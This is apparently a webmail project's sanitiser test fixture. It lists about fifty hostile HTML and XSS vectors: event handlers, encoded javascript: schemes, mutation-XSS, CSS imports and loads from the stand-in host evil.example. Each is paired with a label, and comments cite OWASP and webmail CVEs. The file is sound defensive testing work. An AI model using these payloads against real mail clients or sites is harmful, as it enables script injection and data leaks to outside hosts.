// Hostile HTML a sender anywhere in the trust space could put in a message. Written for this
// project after the kinds of vector published in:
//   - the OWASP "XSS Filter Evasion" cheat sheet (event handlers, encoded and split `javascript:`
//     schemes, CSS expressions and imports, meta refresh, base, object/embed);
//   - DOMPurify's and html5lib's sanitiser test suites (mutation XSS through math/svg/noscript/
//     style/template parsing differences, namespace confusion);
//   - webmail advisories: Roundcube CVE-2024-37383 (SVG <animate> setting href), CVE-2023-5631
//     (SVG in HTML mail), CVE-2024-42009 (desanitised body), CVE-2020-35730 (plain-text links);
//     RainLoop/SnappyMail CVE-2022-29360 (HTML mail to script);
//   - this project's own audit (a URL behind a Unicode space, issue 10 finding 8).
// Each entry: what it tries, and the HTML. Success for the attacker would be a dialog, a script
// run, or a request leaving the webmail: the test counts all three and expects none.
export const HTML_VECTORS = [
  ['script element', '<script>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(2)>'],
  ['svg onload', '<svg onload=alert(3)></svg>'],
  ['body onload', '<body onload=alert(4)>'],
  ['iframe javascript:', '<iframe src="javascript:alert(5)"></iframe>'],
  ['link javascript:', '<a href="javascript:alert(6)">lien 6</a>'],
  ['scheme split by a tab entity', '<a href="jav&#x09;ascript:alert(7)">lien 7</a>'],
  ['scheme in decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(8)">lien 8</a>'],
  ['scheme behind an ASCII space', '<a href=" javascript:alert(9)">lien 9</a>'],
  ['scheme split by a carriage return', '<img src="jav&#x0D;ascript:alert(10);">'],
  ['img javascript:', '<img src="javascript:alert(11)">'],
  ['object data', '<object data="javascript:alert(12)"></object>'],
  ['embed data: HTML', '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4=">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(14)">'],
  ['remote stylesheet', '<link rel="stylesheet" href="https://evil.example/15.css">'],
  ['CSS import', '<style>@import "https://evil.example/16.css";</style>'],
  ['CSS background URL', '<div style="background:url(https://evil.example/17.png)">fond</div>'],
  ['CSS expression', '<div style="width: expression(alert(18))">expr</div>'],
  ['form to elsewhere', '<form action="https://evil.example/19"><input name=p><input type=submit></form>'],
  ['button formaction', '<button formaction="javascript:alert(20)">bouton</button>'],
  ['mXSS math/mglyph/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(21)></style></mglyph></table></mtext></math>'],
  ['mXSS noscript title', '<noscript><p title="</noscript><img src=x onerror=alert(22)>"></p></noscript>'],
  ['SVG animate sets href (CVE-2024-37383 kind)', '<svg><animate attributeName=href values=javascript:alert(23) /><a><text x=20 y=20>svg</text></a></svg>'],
  ['SVG use of a data: document', '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0nYWxlcnQoMjQpJy8+PC9zdmc+#x"></use></svg>'],
  ['details ontoggle', '<details open ontoggle=alert(25)><summary>d</summary></details>'],
  ['video source onerror', '<video><source onerror=alert(26)></video>'],
  ['audio onerror', '<audio src=x onerror=alert(27)></audio>'],
  ['isindex action', '<isindex action=javascript:alert(28) type=image>'],
  ['base href elsewhere', '<base href="https://evil.example/29/">'],
  ['link ping', '<a href="https://ansm.sante.fr/" ping="https://evil.example/30">ping</a>'],
  ['img srcset', '<img srcset="https://evil.example/31.png 1x">'],
  ['picture source srcset', '<picture><source srcset="https://evil.example/32.png"><img alt="32"></picture>'],
  ['table background', '<table background="https://evil.example/33.png"><tr><td>t</td></tr></table>'],
  ['input type image', '<input type="image" src="https://evil.example/34.png">'],
  ['marquee onstart', '<marquee onstart=alert(35)>m</marquee>'],
  ['autofocus onfocus', '<x contenteditable onfocus=alert(36) autofocus>focus</x>'],
  ['broken quotes', '<img """><script>alert(37)</script>">'],
  ['nested script split', '<scr<script>ipt>alert(38)</scr</script>ipt>'],
  ['scheme behind U+2028', '<a href="\u2028javascript:alert(39)">lien 39</a>'],
  ['relative URL behind U+00A0', '<a href="&#xA0;x:/../../auth/logout">lien 40</a>'],
  ['CSS behavior', '<div style="behavior: url(https://evil.example/41.htc)">b</div>'],
  ['SVG style mXSS', '<svg><style><img src=x onerror=alert(42)></style></svg>'],
  ['template content', '<template><img src=x onerror=alert(43)></template>'],
  ['remote image (blocked until allowed)', '<img src="https://evil.example/44.gif">'],
  ['protocol-relative image', '<img src="//evil.example/45.gif">'],
  ['frameset', '<frameset onload=alert(46)><frame src="javascript:alert(46)"></frameset>'],
  ['object with param', '<object type="text/html" data="https://evil.example/47"><param name=x value=y></object>'],
  ['xlink href in SVG', '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(48)"><text y=10>x</text></a></svg>'],
  ['data: URL link', '<a href="data:text/html,<script>alert(49)</script>">lien 49</a>'],
  ['vbscript', '<a href="vbscript:msgbox(50)">lien 50</a>'],
];

// Plain text is shown as text: markup in it must stay text (Roundcube CVE-2020-35730 kind).
export const TEXT_VECTORS = [
  '<script>alert(101)</script>',
  '<img src=x onerror=alert(102)>',
  'javascript:alert(103)',
  '"><svg onload=alert(104)>',
];
